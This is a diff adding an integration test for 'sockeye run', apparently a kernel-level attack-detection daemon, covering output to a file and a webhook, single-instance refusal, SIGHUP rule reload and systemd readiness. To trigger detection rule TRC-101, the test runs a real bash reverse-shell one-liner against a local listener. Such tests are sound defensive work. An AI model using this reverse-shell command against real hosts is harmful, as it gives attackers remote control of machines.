@@ -1,0 +1,175 @@
+/**
+ * `sockeye run` as a service: configured from a file, the same finding reaches stdout, the
+ * file output and a webhook (a real HTTP server on 127.0.0.1); a second daemon refuses to
+ * start naming the first; SIGHUP with a new rule file makes that rule run without a
+ * restart; systemd learns READY=1 through $NOTIFY_SOCKET; SIGTERM exits 0.
+ */
+import { afterAll, describe, expect, it } from "vitest";
+import { spawn, type ChildProcess } from "node:child_process";
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import http from "node:http";
+import type { AddressInfo } from "node:net";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { PYTHON, kernelTier, run, tcpListener } from "./harness.js";
+
+const tier = kernelTier();
+const CLI = "dist/cli/main.js";
+
+interface Daemon {
+  child: ChildProcess;
+  stdout: () => string;
+  stderr: () => string;
+  /** Resolves when stderr has a line matching `pattern` (after `from` characters). */
+  waitFor(pattern: RegExp, from?: number, timeoutMs?: number): Promise<void>;
+  stop(): Promise<number | null>;
+}
+
+function startDaemon(args: string[], env: NodeJS.ProcessEnv = process.env): Daemon {
+  const child = spawn(process.execPath, [CLI, "run", ...args], { stdio: ["ignore", "pipe", "pipe"], env });
+  let stdout = "", stderr = "";
+  child.stdout!.on("data", (d) => (stdout += d));
+  child.stderr!.on("data", (d) => (stderr += d));
+  const exited = new Promise<number | null>((resolve) => child.on("exit", (code) => resolve(code)));
+  return {
+    child,
+    stdout: () => stdout,
+    stderr: () => stderr,
+    async waitFor(pattern, from = 0, timeoutMs = 15_000) {
+      const deadline = Date.now() + timeoutMs;
+      while (!pattern.test(stderr.slice(from))) {
+        if (child.exitCode !== null) throw new Error(`daemon exited ${child.exitCode} before ${pattern}: ${stderr}`);
+        if (Date.now() > deadline) throw new Error(`no ${pattern} within ${timeoutMs} ms: ${stderr}`);
+        await new Promise((r) => setTimeout(r, 50));
+      }
+    },
+    async stop() {
+      child.kill("SIGTERM");
+      return exited;
+    },
+  };
+}
+
+async function poll<T>(read: () => T | undefined, timeoutMs = 5_000): Promise<T> {
+  const deadline = Date.now() + timeoutMs;
+  for (;;) {
+    const value = read();
+    if (value !== undefined) return value;
+    if (Date.now() > deadline) throw new Error("timed out waiting");
+    await new Promise((r) => setTimeout(r, 100));
+  }
+}
+
+const jsonLines = (text: string) => text.split("\n").filter(Boolean).map((line) => JSON.parse(line) as Record<string, any>);
+
+describe.runIf(tier.run)("kernel: sockeye run as a service", () => {
+  const dir = mkdtempSync(join(tmpdir(), "sockeye-service-"));
+  afterAll(() => rmSync(dir, { recursive: true, force: true }));
+
+  it("file and webhook outputs, single instance, SIGHUP rule reload, clean stop", async () => {
+    const posted: { headers: http.IncomingHttpHeaders; body: unknown }[] = [];
+    const server = http.createServer((req, res) => {
+      let body = "";
+      req.on("data", (d) => (body += d));
+      req.on("end", () => {
+        posted.push({ headers: req.headers, body: JSON.parse(body) });
+        res.writeHead(200).end();
+      });
+    });
+    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+    const webhookUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/ingest`;
+
+    const rulesDir = join(dir, "rules.d");
+    mkdirSync(rulesDir);
+    const findingsFile = join(dir, "findings.jsonl");
+    const configPath = join(dir, "sockeye.toml");
+    writeFileSync(
+      configPath,
+      [
+        "[rules]", `paths = ["${rulesDir}"]`,
+        "[output]", 'stdout = "json"',
+        "[output.file]", `path = "${findingsFile}"`,
+        "[output.webhook]", `url = "${webhookUrl}"`, 'headers = { Authorization = "Bearer test-token" }',
+        "[metrics]", "stats_interval_s = 0",
+      ].join("\n"),
+    );
+
+    const daemon = startDaemon(["--config", configPath]);
+    try {
+      await daemon.waitFor(/ready/);
+
+      const second = await run(process.execPath, [CLI, "run"]);
+      expect(second.status).toBe(1);
+      expect(second.stderr.trim()).toBe(
+        `sockeye: another sockeye run is already active on this host (pid ${daemon.child.pid}): stop it first, two would report every attack twice`,
+      );
+
+      // A real reverse shell: its finding reaches stdout, the file and the webhook.
+      const catcher = await tcpListener("127.0.0.1", "exit\n");
+      await run("timeout", ["-s", "KILL", "5", "bash", "-c", `bash -i >& /dev/tcp/127.0.0.1/${catcher.port} 0>&1`]);
+      await catcher.close();
+      const isOurs = (f: Record<string, any>) => f.rule?.id === "TRC-101" && f.finding?.Port === String(catcher.port);
+      const onStdout = await poll(() => jsonLines(daemon.stdout()).find(isOurs));
+      const inFile = await poll(() => jsonLines(readFileSync(findingsFile, "utf8")).find(isOurs));
+      const viaWebhook = await poll(() => posted.flatMap((p) => p.body as Record<string, any>[]).find(isOurs));
+      expect(inFile).toEqual(onStdout);
+      expect(viaWebhook).toEqual(onStdout);
+      expect(posted[0]!.headers["authorization"]).toBe("Bearer test-token");
+
+      // A rule that does not exist yet: the marker exec is not reported...
+      const marker = `sockeye-reload-${process.pid}`;
+      const markerFindings = () => jsonLines(daemon.stdout()).filter((f) => f.rule?.id === "test-reload-marker");
+      await run("/usr/bin/true", [marker]);
+      await new Promise((r) => setTimeout(r, 500));
+      expect(markerFindings()).toEqual([]);
+      // ...then it is dropped into the rules folder and the daemon gets SIGHUP.
+      writeFileSync(
+        join(rulesDir, "marker.toml"),
+        ["[rule]", 'rule_id = "test-reload-marker"', 'name = "reload marker"', 'description = "test"', 'severity = "low"', 'type = "eql"',
+          `query = 'process where process.name == "true" and process.args == "${marker}"'`].join("\n"),
+      );
+      const mark = daemon.stderr().length;
+      daemon.child.kill("SIGHUP");
+      await daemon.waitFor(/"message":"reloaded".*test-reload-marker/, mark);
+      await run("/usr/bin/true", [marker]);
+      const reloaded = await poll(() => markerFindings()[0]);
+      expect(reloaded).toMatchObject({ rule: { id: "test-reload-marker", severity: "low" }, process: { name: "true", args: ["/usr/bin/true", marker] } });
+
+      // A reload with a broken rule keeps the running rules.
+      writeFileSync(join(rulesDir, "broken.toml"), "[rule\n");
+      const mark2 = daemon.stderr().length;
+      daemon.child.kill("SIGHUP");
+      await daemon.waitFor(/reload failed: still running the previous configuration.*broken\.toml:1/, mark2);
+    } finally {
+      expect(await daemon.stop()).toBe(0);
+      await new Promise<void>((resolve) => server.close(() => resolve()));
+    }
+    expect(daemon.stderr()).toMatch(/"message":"stopped","signal":"SIGTERM"/);
+  });
+
+  it("tells systemd READY=1 through $NOTIFY_SOCKET once every hook is attached", async () => {
+    const socketPath = join(dir, "notify.sock");
+    // Node has no unix datagram sockets: python plays systemd's side.
+    const listener = spawn(PYTHON, ["-c", [
+      "import socket,sys",
+      "s=socket.socket(socket.AF_UNIX,socket.SOCK_DGRAM)",
+      `s.bind(${JSON.stringify(socketPath)})`,
+      "print('bound',flush=True)",
+      "s.settimeout(20)",
+      "for _ in range(2): print(s.recv(4096).decode().replace(chr(10),' '),flush=True)",
+    ].join("\n")], { stdio: ["ignore", "pipe", "inherit"] });
+    let heard = "";
+    listener.stdout!.on("data", (d) => (heard += d));
+    await poll(() => (heard.includes("bound") ? true : undefined));
+    const daemon = startDaemon([], { ...process.env, NOTIFY_SOCKET: socketPath });
+    try {
+      await daemon.waitFor(/ready/);
+      await poll(() => (heard.includes("READY=1") ? true : undefined));
+      expect(heard).toContain(`MAINPID=${daemon.child.pid}`);
+    } finally {
+      expect(await daemon.stop()).toBe(0);
+    }
+    await poll(() => (heard.includes("STOPPING=1") ? true : undefined));
+    listener.kill();
+  });
+});
